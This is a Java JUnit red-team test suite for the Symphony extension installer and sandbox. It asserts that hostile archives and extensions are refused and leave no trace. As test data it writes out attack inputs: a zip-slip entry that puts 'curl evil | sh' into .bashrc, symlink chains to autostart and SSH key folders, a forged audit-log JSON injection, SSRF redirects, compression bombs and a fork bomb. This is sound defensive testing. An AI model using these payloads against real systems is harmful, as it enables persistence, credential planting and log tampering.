package dev.symphony.kernel.extensions;

import dev.symphony.kernel.cli.ExtCommand;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.symphony.contract.CallFailedException;
import dev.symphony.contract.ErrorCode;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.io.TempDir;

import java.io.BufferedReader;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import static org.junit.jupiter.api.Assertions.*;

/**
 * The red team: hostile archives and manifests against the installer, and a hostile extension at run time
 * ({@link RunningIntruder}: a real kernel and host). Each case is checked by a before/after listing of a decoy home
 * folder that holds Symphony's own folder: every case must be refused or contained, and a refusal leaves no trace
 * (not even an empty staging folder). The archives are what an attacker would build ({@link HostileZip}); the
 * installer runs with small caps so a bomb is cheap to build. More run-time cases (event floods, fork and thread
 * bombs, memory, full {@code /tmp}) are in {@code HostileHostTest} and {@code RunningQuotaTest}.
 */
class RedTeamTest {
    static final String MANIFEST = ArchiveInstallerTest.MANIFEST;
    static final ObjectMapper JSON = new ObjectMapper();
    static final ArchiveRules.Limits SMALL = new ArchiveRules.Limits(1 << 20, 50, 64 << 10);

    @TempDir
    Path tmp;
    DecoyHome home;
    Map<String, String> before;

    @BeforeEach
    void decoy() throws IOException {
        home = DecoyHome.create(tmp.resolve("home"));
        before = home.listing();
    }

    ArchiveInstaller installer() {
        return new ArchiveInstaller(new ExtensionStore(home.symphonyHome().resolve("data/extensions")), SMALL);
    }

    /** Installs {@code zip} as a user who approves everything; returns the refusal and checks nothing changed. */
    InstallException refusedWithoutTrace(HostileZip zip, String expected) throws IOException {
        Path archive = zip.write(home.downloads().resolve("hostile.zip"));
        InstallException e = assertThrows(InstallException.class, () -> {
            ArchiveInstaller installer = installer();
            installer.commit(installer.prepare(archive, null));
        });
        assertEquals(2, e.exitCode(), e.getMessage());
        assertTrue(e.getMessage().contains(expected), "expected '" + expected + "' in: " + e.getMessage());
        assertEquals(before, home.listing(), "the decoy home is unchanged");
        return e;
    }

    HostileZip withManifest() {
        return new HostileZip().file("symphony-extension.json", MANIFEST);
    }

    /** Hostile manifests: each refused at install with a message naming the problem, leaving no trace. */
    @TestFactory
    Stream<DynamicTest> hostileManifestsAreRefusedWithoutTrace() {
        String nested = "[".repeat(20_000) + "]".repeat(20_000);
        return Stream.of(
                new String[] {"id climbing out of the store", MANIFEST.replace("dev.example.ok", "../../.config/autostart"), "id"},
                new String[] {"absolute id", MANIFEST.replace("dev.example.ok", "/tmp/evil"), "id"},
                new String[] {"not JSON", "\u0000\u00ff{{{", "manifest"},
                new String[] {"nesting meant to exhaust the parser's stack", MANIFEST.replace("\"permissions\": {}",
                        "\"permissions\": {}, \"x\": " + nested), "manifest"},
                new String[] {"a second permissions object after the one a reviewer reads",
                        MANIFEST.replace("\"permissions\": {}", "\"permissions\": {}, \"permissions\": {\"processes\": true}"), "Duplicate field"},
                new String[] {"a capability name with path characters", MANIFEST.replace("\"name\": \"a\"", "\"name\": \"../../a\""), "name"})
                .map(c -> DynamicTest.dynamicTest(c[0], () -> {
                    before = home.listing();
                    refusedWithoutTrace(new HostileZip().file("symphony-extension.json", c[1]), c[2]);
                }));
    }

    @Test
    void chainedSymbolicLinksCannotReachTheAutostartFolder() throws IOException {
        // Each link passes a text-only check of its own target; together they climb to the home folder.
        HostileZip zip = withManifest().link("x/l1", "..");
        String path = "x/l1";
        for (int i = 2; i <= 5; i++) {
            path += "/l" + i;
            zip.link(path, "..");
        }
        zip.file(path + "/.config/autostart/evil.desktop", "[Desktop Entry]\nExec=sh -c pwned\n");
        refusedWithoutTrace(zip, "symbolic link");
    }

    @Test
    void aLinkToAFileInsideTheFolderIsRefusedToo() throws IOException {
        refusedWithoutTrace(withManifest().file("a.txt", "a").link("b.txt", "a.txt"), "symbolic link");
    }

    @Test
    void zipSlipIsRefused() throws IOException {
        refusedWithoutTrace(withManifest().file("../../../.bashrc", "curl evil | sh\n"), "escapes the extension folder");
        refusedWithoutTrace(withManifest().file("classes/../../x", "x"), "escapes the extension folder");
        refusedWithoutTrace(withManifest().renamed("classes/aa/bb/x", "classes\\..\\..\\x", "x"), "not allowed");
    }

    @Test
    void absolutePathsAreRefused() throws IOException {
        refusedWithoutTrace(withManifest().file("/tmp/evil", "x"), "absolute path");
        refusedWithoutTrace(withManifest().file("C:/Users/evil", "x"), "absolute path");
    }

    @Test
    void nonCanonicalAndReservedNamesAreRefused() throws IOException {
        refusedWithoutTrace(withManifest().file("classes//x", "x"), "not a canonical path");
        refusedWithoutTrace(withManifest().file("./x", "x"), "not a canonical path");
        refusedWithoutTrace(withManifest().file("lib/con.txt", "x"), "reserves");
        refusedWithoutTrace(withManifest().renamed("lib/a0b", "lib/a\u0000b", "x"), "not allowed");
    }

    @Test
    void devicesAndPipesAreRefused() throws IOException {
        refusedWithoutTrace(withManifest().special("dev/tty", HostileZip.CHAR_DEVICE), "not a plain file");
        refusedWithoutTrace(withManifest().special("fifo", HostileZip.FIFO), "not a plain file");
    }

    @Test
    void duplicateNamesAreRefused() throws IOException {
        // the second copy would replace the first after it was inspected (java.util.zip reads one of them)
        refusedWithoutTrace(withManifest().file("lib/a.jar", "good").renamed("lib/b.jar", "lib/a.jar", "evil"), "appears twice");
        refusedWithoutTrace(new HostileZip().file("symphony-extension.json", MANIFEST)
                .renamed("symphony-extension.jsoX", "symphony-extension.json", MANIFEST.replace("{}}", "{\"processes\": true}}")), "appears twice");
    }

    @Test
    void namesCollidingOnACaseInsensitiveDiskAreRefused() throws IOException {
        refusedWithoutTrace(withManifest().file("lib/Plugin.jar", "a").file("lib/plugin.JAR", "b"), "letter case");
        refusedWithoutTrace(withManifest().file("lib/\u00e9.txt", "a").file("lib/e\u0301.txt", "b"), "Unicode form");
    }

    @Test
    void aFileCannotAlsoBeAFolder() throws IOException {
        refusedWithoutTrace(withManifest().file("lib", "x").file("lib/a.jar", "y"), "which is a file");
    }

    @Test
    void aCompressionBombStopsAtTheCapWhileInflating() throws IOException {
        byte[] zeros = new byte[32 << 20]; // deflates to ~32 KB; its record claims 1 KB
        InstallException e = refusedWithoutTrace(withManifest().lyingFile("lib/bomb.bin", zeros, 1024), "more than 1 MB");
        assertTrue(e.getMessage().contains("stopped inside lib/bomb.bin"), e.getMessage());
    }

    @Test
    void declaredSizesOverTheCapAreRefusedBeforeInflating() throws IOException {
        refusedWithoutTrace(withManifest().lyingFile("lib/big.bin", new byte[10], 2L << 20), "declares more than 1 MB");
    }

    @Test
    void tooManyEntriesAreRefused() throws IOException {
        HostileZip zip = withManifest();
        for (int i = 0; i < 60; i++) {
            zip.file("lib/f" + i, "x");
        }
        refusedWithoutTrace(zip, "more than the 50 allowed");
    }

    @Test
    void anOversizedManifestIsRefused() throws IOException {
        refusedWithoutTrace(new HostileZip().file("symphony-extension.json", " ".repeat(100_000) + MANIFEST), "more than 65536 bytes");
    }

    @Test
    void theCopyNeverWritesPastItsBudget() {
        ByteArrayOutputStream sink = new ByteArrayOutputStream();
        assertThrows(InstallException.class, () -> SafeUnpacker.copy(new java.io.InputStream() {
            @Override
            public int read() {
                return 0;
            }

            @Override
            public int read(byte[] b, int off, int len) {
                return len; // an endless stream of zeros
            }
        }, sink, 100_000, "a.zip", "e", 100_000));
        assertTrue(sink.size() > 0 && sink.size() <= 100_000, "the sink got at most the budget: " + sink.size());
    }

    @Test
    void nothingIsUnpackedBeforeApprovalAndARefusedPromptLeavesNoTrace() throws IOException {
        Path archive = withManifest().file("classes/x.txt", "x").write(home.downloads().resolve("ok.zip"));
        ArchiveInstaller installer = installer();
        ArchiveInstaller.Prepared prepared;
        try {
            prepared = installer.prepare(archive, null);
        } catch (InstallException e) {
            throw new AssertionError(e);
        }
        assertTrue(home.listing().keySet().stream().noneMatch(p -> p.endsWith("x.txt")), "nothing unpacked while the user is asked");
        installer.abort(prepared);
        assertEquals(before, home.listing(), "an aborted install leaves no trace");
    }

    /** At the command line a hostile archive and a "no" at the prompt are each audited as a refused install, and leave no trace. */
    @Test
    void refusalsAtTheCliAreAuditedAndLeaveNoTrace() throws IOException {
        String previous = System.getProperty("symphony.home");
        System.setProperty("symphony.home", home.symphonyHome().toString());
        try {
            PrintStream quiet = new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8);
            ExtCommand.run(new String[]{"list"}, quiet, quiet); // the kernel's own folders exist from here on
            Map<String, String> started = home.listing();
            Path hostile = withManifest().link("x/l1", "..").file("x/l1/.config/autostart/evil.desktop", "x").write(home.downloads().resolve("evil.zip"));
            Path ok = withManifest().write(home.downloads().resolve("ok.zip"));
            for (Path archive : List.of(hostile, ok)) {
                ByteArrayOutputStream err = new ByteArrayOutputStream();
                int code = ExtCommand.run(new String[]{"install", archive.toString(), "--allow-unsigned"}, quiet,
                        new PrintStream(err, true, StandardCharsets.UTF_8), () -> new BufferedReader(new StringReader("no\n")));
                String said = err.toString(StandardCharsets.UTF_8);
                assertEquals(archive == ok ? 1 : 2, code, said);
                assertTrue(said.contains(archive == ok ? "not approved" : "symbolic link"), said);
            }
            List<JsonNode> refused = dev.symphony.kernel.audit.AuditLog.readAll(home.symphonyHome().resolve("data/audit"))
                    .stream().filter(a -> a.path("what").asText().equals("ext.install") && a.path("decision").asText().equals("denied")).toList();
            assertTrue(refused.stream().anyMatch(a -> a.path("resource").asText().equals(hostile.toString())
                    && a.path("detail").asText().contains("symbolic link")), "the hostile archive's refusal is audited: " + refused);
            assertTrue(refused.stream().anyMatch(a -> a.path("resource").asText().equals("dev.example.ok")
                    && a.path("detail").asText().contains("not approved")), "the user's no is audited: " + refused);
            assertEquals(withoutLogs(started), withoutLogs(home.listing()), "nothing but the kernel's audit and logs changed");
        } finally {
            if (previous == null) {
                System.clearProperty("symphony.home");
            } else {
                System.setProperty("symphony.home", previous);
            }
        }
    }

    /**
     * The kernel's own audit and log files grow with every command, and its folders under .symphony appear when it
     * first writes there (which command that is depends on the environment); they are not the extension's doing.
     */
    private static Map<String, String> withoutLogs(Map<String, String> listing) {
        listing.keySet().removeIf(p -> p.contains("/audit/") || p.endsWith("/audit") || p.endsWith("/audit.head") || p.contains("/logs/"));
        listing.entrySet().removeIf(e -> e.getValue().equals("dir") && (e.getKey().equals(".symphony") || e.getKey().startsWith(".symphony/")));
        return listing;
    }

    // ---- at run time: the intruder extension in a real kernel, its own decoy home (started by the first case) ----

    static RunningIntruder intruder;

    static RunningIntruder intruder() throws Exception {
        if (intruder == null) {
            intruder = RunningIntruder.start();
        }
        return intruder;
    }

    @AfterAll
    static void stopTheIntruder() {
        if (intruder != null) {
            intruder.close();
            intruder = null; // surefire reruns a failed case after this: it starts a new one (CI run 82: "rejected from … Terminated")
        }
    }

    /**
     * Links in a folder the extension may write (a cloned repository can carry them) lead to the user's autostart
     * folder, shell profile and SSH keys. Before, a link whose target did not exist yet was checked as the link's own
     * path — inside the permitted folder, audited as allowed — and only the no-follow open stopped the write.
     */
    @Test
    void linksInAWritableFolderCannotCarryABrokeredWriteOutOfIt() throws Exception {
        RunningIntruder k = intruder();
        Path shared = k.workspace.resolve("shared");
        Path autostart = k.home.root().resolve(".config/autostart/evil.desktop");
        Files.createSymbolicLink(shared.resolve("evil.desktop"), autostart); // its target does not exist (dangling)
        Files.createSymbolicLink(shared.resolve("profile"), k.home.root().resolve(".bashrc"));
        Files.createSymbolicLink(shared.resolve("keys"), k.home.root().resolve(".ssh"));
        Files.createSymbolicLink(shared.resolve("hop"), shared.resolve("evil.desktop")); // a link to the dangling link
        Map<String, String> before = k.outsideSymphony();
        Map<String, Path> targets = Map.of("evil.desktop", autostart, "hop", autostart,
                "profile", k.home.root().resolve(".bashrc").toRealPath(), "keys/authorized_keys",
                k.home.root().resolve(".ssh/authorized_keys").toRealPath(), "../../../.bashrc", k.home.root().resolve(".bashrc").toRealPath());
        for (var t : targets.entrySet()) {
            String path = shared.resolve(t.getKey()).toString();
            CallFailedException e = assertThrows(CallFailedException.class,
                    () -> k.broker("files.write", Map.of("path", path, "text", "[Desktop Entry]\nExec=sh -c pwned\n")), path);
            assertEquals(ErrorCode.PERMISSION_DENIED, e.code(), e.getMessage());
        }
        List<JsonNode> writes = k.audit().stream().filter(a -> a.path("who").asText().equals(RunningIntruder.ID)
                && a.path("what").asText().equals("files.write")).toList();
        assertTrue(writes.stream().noneMatch(a -> a.path("decision").asText().equals("allowed")), "no write was allowed: " + writes);
        for (Path target : targets.values()) {
            String real = target.getParent().toRealPath().resolve(target.getFileName()).toString();
            assertTrue(writes.stream().anyMatch(a -> a.path("resource").asText().equals(real)),
                    "the refusal is audited with the real target " + real + ": " + writes);
        }
        assertEquals(before, k.outsideSymphony(), "nothing outside Symphony's folder changed");
    }

    /** An allowed server redirects the extension's fetch to an internal one its manifest does not list (SSRF). */
    @Test
    void aFetchCannotBeRedirectedOrTrickedToAServerTheManifestDoesNotList() throws Exception {
        RunningIntruder k = intruder();
        JsonNode redirected = k.broker("network.fetch", Map.of("url", k.allowedUrl("/"), "timeoutMs", 10_000));
        assertEquals(302, redirected.path("result").path("status").asInt(), "the extension sees the redirect: " + redirected);
        for (String url : List.of(k.forbiddenUrl("/internal/admin"), // straight, and with the allowed name as user info
                k.forbiddenUrl("/internal/admin").replace("http://", "http://localhost:" + k.allowed.getAddress().getPort() + "@"))) {
            CallFailedException e = assertThrows(CallFailedException.class, () -> k.broker("network.fetch", Map.of("url", url)), url);
            assertEquals(ErrorCode.PERMISSION_DENIED, e.code(), e.getMessage());
            assertTrue(k.audit().stream().anyMatch(a -> a.path("what").asText().equals("network.fetch")
                    && a.path("resource").asText().equals(url) && a.path("decision").asText().equals("denied")), "audited: " + url);
        }
        assertEquals(0, k.forbiddenHits.get(), "the server the manifest does not list was never reached");
    }

    /** Frames written straight into the host's queue, past its SDK: only its own channel breaks, the host restarts. */
    @TestFactory
    Stream<DynamicTest> framesAHostWritesPastItsSdkBreakOnlyItsOwnChannel() {
        return Stream.of("unknown-type", "length-overflow").map(kind -> DynamicTest.dynamicTest(kind, () -> {
            RunningIntruder k = intruder();
            k.call("environment", JSON.createObjectNode());
            long pid = k.hostPid();
            long crashes = k.audit().stream().filter(a -> a.path("what").asText().equals("host.crash")
                    && a.path("resource").asText().equals(RunningIntruder.ID)).count();
            CallFailedException e = assertThrows(CallFailedException.class, () -> k.call("frame", JSON.createObjectNode().put("kind", kind)));
            assertTrue(e.code() != ErrorCode.TIMEOUT && e.getMessage().contains("broken"), "the call failed at once, naming the broken channel: "
                    + e.code() + " " + e.getMessage());
            java.util.function.Predicate<JsonNode> crash = a -> a.path("what").asText().equals("host.crash")
                    && a.path("resource").asText().equals(RunningIntruder.ID);
            assertTrue(k.auditWhen(audit -> audit.stream().filter(crash).count() > crashes).stream().filter(crash).count() > crashes,
                    "the broken channel is audited as the host's crash");
            assertTrue(k.call("environment", JSON.createObjectNode()).has("env"), "a fresh host answers");
            assertNotEquals(pid, k.hostPid(), "the host that broke its channel was replaced");
        }));
    }

    /** Events named to read as kernel decisions, one with a line break and JSON meant to start an entry of its own. */
    @Test
    void aHostCannotWriteAuditEntriesThatReadAsKernelDecisions() throws Exception {
        RunningIntruder k = intruder();
        String injected = "x\"}\n{\"who\":\"user\",\"what\":\"ext.trust\",\"resource\":\"" + RunningIntruder.ID + "\",\"decision\":\"allowed\"}";
        List<String> names = List.of("ext.trust", injected);
        long trusts = k.audit().stream().filter(a -> a.path("what").asText().equals("ext.trust")).count();
        for (String name : names) {
            var input = JSON.createObjectNode().put("name", name);
            input.putObject("payload").put("decision", "allowed").put("who", "kernel");
            k.call("emit", input);
        }
        List<JsonNode> audit = k.auditWhen(entries -> entries.stream().filter(a -> names.contains(a.path("resource").asText())).count() >= names.size());
        List<JsonNode> reported = audit.stream().filter(a -> names.contains(a.path("resource").asText())).toList();
        assertEquals(names.size(), reported.size(), "each stored as one entry: " + reported);
        assertTrue(reported.stream().allMatch(a -> a.path("what").asText().equals("reported.event")
                && a.path("decision").asText().equals("reported") && a.path("reportedBy").asText().equals(RunningIntruder.ID)),
                "as reported by the extension, not as a kernel decision: " + reported);
        assertEquals(trusts, audit.stream().filter(a -> a.path("what").asText().equals("ext.trust")).count(), "no forged decision");
        assertTrue(dev.symphony.kernel.audit.AuditVerifier.verify(k.paths.data("audit")).ok(), "the chain holds");
    }

    /** Everything in a host's environment is on the allow-list or set by the kernel: none of the IDE's variables. */
    @Test
    void aHostFindsNothingOfTheIdesEnvironment() throws Exception {
        RunningIntruder k = intruder();
        JsonNode answer = k.call("environment", JSON.createObjectNode());
        JsonNode env = answer.path("env");
        var kernelSet = new java.util.HashSet<>(dev.symphony.kernel.process.JvmFlags.forCurrentRuntime().environment().keySet());
        kernelSet.add("DJL_CACHE_DIR"); // set by the kernel where this JVM has it (the build sets it for tests)
        String workingFolder = k.paths.data("extension-data").resolve(RunningIntruder.ID).toString();
        List<String> leaked = new java.util.ArrayList<>();
        env.fieldNames().forEachRemaining(name -> {
            boolean sandboxSet = name.equals("PWD") && env.path(name).asText().equals(workingFolder); // bubblewrap's --chdir
            boolean itsHome = name.equals("HOME") && env.path(name).asText().equals(workingFolder); // the kernel's: its data folder
            if (!HostEnvironment.allowed(name) && !kernelSet.contains(name) && !sandboxSet && !itsHome) {
                leaked.add(name + "=" + env.path(name).asText());
            }
        });
        assertEquals(List.of(), leaked, "variables the host should not see");
        assertEquals(workingFolder, env.path("HOME").asText(), "the host's HOME is its data folder, not the user's");
        assertEquals(workingFolder, answer.path("userHome").asText(), "and so is its user.home (sandboxed it was \"?\")");
        assertFalse(System.getenv().keySet().stream().allMatch(n -> HostEnvironment.allowed(n) || kernelSet.contains(n)),
                "this JVM has variables a host must not get (HOME at least), so the case can fail");
    }

    /**
     * Plain {@code java.io} in the host, past the broker: the user's autostart folder, and the extension's own manifest
     * (rewritten, the next host would start with permissions nobody approved).
     */
    @Test
    void theOsSandboxKeepsDirectWritesOutOfTheHomeAndTheExtensionsOwnFolder() throws Exception {
        Assumptions.assumeTrue(Sandbox.Mode.fromProperty() != Sandbox.Mode.OFF && Sandbox.available(), "bubblewrap is not usable here: only bundled or trusted "
                + "extensions run, with the user's rights (docs/security.md)");
        RunningIntruder k = intruder();
        Path manifest = k.kernel.player(RunningIntruder.ID).orElseThrow().dir().resolve("symphony-extension.json");
        String approved = Files.readString(manifest);
        Map<String, String> before = k.outsideSymphony();
        for (var attempt : Map.of(k.home.root().resolve(".config/autostart/evil.desktop"), "[Desktop Entry]\nExec=sh -c pwned\n",
                manifest, approved.replace("\"maxHeapMb\"", "\"processes\": true, \"maxHeapMb\"")).entrySet()) {
            JsonNode out = k.call("write-direct", JSON.createObjectNode().put("path", attempt.getKey().toString()).put("text", attempt.getValue()));
            assertFalse(out.path("written").asBoolean(), "written: " + attempt.getKey() + " " + out);
        }
        assertEquals(approved, Files.readString(manifest), "the approved manifest is unchanged");
        assertEquals(before, k.outsideSymphony(), "nothing outside Symphony's folder changed");
    }

    /**
     * A fork bomb from extension code itself, not through the {@code processes} permission: its children are held by the
     * host's task limit ({@link HostLimits}), which the host JVM and everything it starts share; the host goes on.
     */
    @Test
    void aForkBombStraightFromExtensionCodeStopsAtTheHostsTaskLimit() throws Exception {
        RunningIntruder k = intruder();
        k.call("environment", JSON.createObjectNode());
        String log = Files.readString(k.paths.data("logs").resolve("extensions").resolve(RunningIntruder.ID + ".log"));
        Assumptions.assumeTrue(HostileHostTest.groupsCanBeMade() || log.contains("limits: systemd"),
                "no control group or systemd scope can be made here, so no task limit binds the host: " + log);
        long pid = k.hostPid();
        JsonNode bomb = k.call("fork", JSON.createObjectNode().put("n", HostLimits.MAX_TASKS + 64));
        assertTrue(bomb.path("started").asInt() < HostLimits.MAX_TASKS, "more children than the host's task limit: " + bomb);
        assertTrue(bomb.has("error"), "a fork failed at the limit: " + bomb);
        assertTrue(k.call("environment", JSON.createObjectNode()).has("env"), "the host still answers");
        assertEquals(pid, k.hostPid(), "the same host");
    }
}
